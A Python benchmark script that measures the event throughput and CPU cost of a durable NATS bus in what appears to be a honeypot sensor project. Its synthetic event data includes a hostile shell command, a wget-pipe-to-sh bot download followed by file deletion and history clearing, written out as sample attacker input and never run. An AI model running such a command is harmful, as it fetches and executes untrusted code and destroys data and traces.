# SPDX-License-Identifier: Apache-2.0
"""How many events per second go through the bus, durably, and what they cost.

    python benchmarks/bus_rate.py [--bus-events 200000]

One process publishes and then reads on a child nats-server with `sync_interval: always`. CPU seconds are
those of this process and of the nats-server; they are steadier than the rates on a shared machine.
Bodies are short ones, as a busy sensor brings them: one at a time, and many at once.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import tempfile
import time
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime
from pathlib import Path

from figures import Figure, show, tell
from processes import cpu_seconds

from mead.bus.bodies import BodySender
from mead.bus.client import Bus
from mead.bus.events import EventReader
from mead.bus.publisher import Publisher, PublisherSettings
from mead.bus.server import NatsServer
from mead.model.event import CommandInput

__all__ = ["arguments", "run"]

BURST = 1000


def event(number: int) -> CommandInput:
    return CommandInput(
        time=datetime.now(UTC),
        sensor="bench",
        session=f"{number:016x}",
        src="192.0.2.7",
        src_port=number % 65536,
        dst="198.51.100.9",
        dst_port=23,
        transport="tcp",
        service="telnet",
        command=f"cd /tmp; wget http://192.0.2.1/{number}/bot.sh -O- | sh; rm -rf /tmp/*; history -c",
    )


async def measured(what: str, count: int, unit: str, pid: int, work: Callable[[], Awaitable[None]]) -> Figure:
    wall, own, server = time.perf_counter(), time.process_time(), cpu_seconds(pid)
    await work()
    wall = time.perf_counter() - wall
    own, server = time.process_time() - own, cpu_seconds(pid) - server
    scale = 1e6 / count
    note = f"{count:,} {unit}; CPU-s per million: {own * scale:.1f} here, {server * scale:.1f} nats-server"
    return tell(Figure(what, count / wall, f"{unit}/s", note=note))


def syncs(count: int = 300) -> Figure:
    """How often the disk writes through: the limit of everything that is durable one by one."""
    with tempfile.NamedTemporaryFile(prefix="mead-bench-") as file:
        began = time.perf_counter()
        for _ in range(count):
            os.write(file.fileno(), bytes(300))
            os.fsync(file.fileno())
        seconds = time.perf_counter() - began
    return tell(Figure("disk: 300 bytes written through", count / seconds, "/s", note="one after the other"))


async def run(options: argparse.Namespace) -> list[Figure]:
    events, figures = options.bus_events, [syncs()]
    with tempfile.TemporaryDirectory(prefix="mead-bench-") as folder:
        async with NatsServer(Path(folder)) as server, Bus.connect(server.credentials) as bus:
            pid = server.pid
            assert pid
            for compression in ("zlib", "none"):
                settings = PublisherSettings(compression=compression, memory_events=events)
                async with Publisher(bus, f"bench-{compression}", settings) as publisher:

                    async def publish(publisher: Publisher = publisher) -> None:
                        for start in range(0, events, BURST):
                            for number in range(start, start + BURST):
                                publisher.publish(event(number))
                            await asyncio.sleep(0)
                        await publisher.flush()

                    what = f"bus: publish, {compression}"
                    figures.append(await measured(what, events, "events", pid, publish))
                    assert publisher.acknowledged == events

                async def read(stream: str = f"EVENTS_bench-{compression}") -> None:
                    left = events
                    async with EventReader(bus, stream) as reader:
                        while left:
                            left -= len((await anext(reader)).events)

                figures.append(await measured(f"bus: read, {compression}", events, "events", pid, read))
            sender, few, many = BodySender(bus), max(events // 200, 1), max(events // 40, 1)

            async def one_by_one() -> None:
                for number in range(few):
                    await sender.put(b"one transcript %d" % number)

            async def at_once() -> None:
                await asyncio.gather(*(sender.put(b"transcript %d" % number) for number in range(many)))

            figures.append(await measured("bus: short bodies, one by one", few, "bodies", pid, one_by_one))
            figures.append(await measured("bus: short bodies, at once", many, "bodies", pid, at_once))
    return figures


def arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--bus-events", type=int, default=200_000, help="events that go over the bus")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    arguments(parser)
    show(asyncio.run(run(parser.parse_args())))
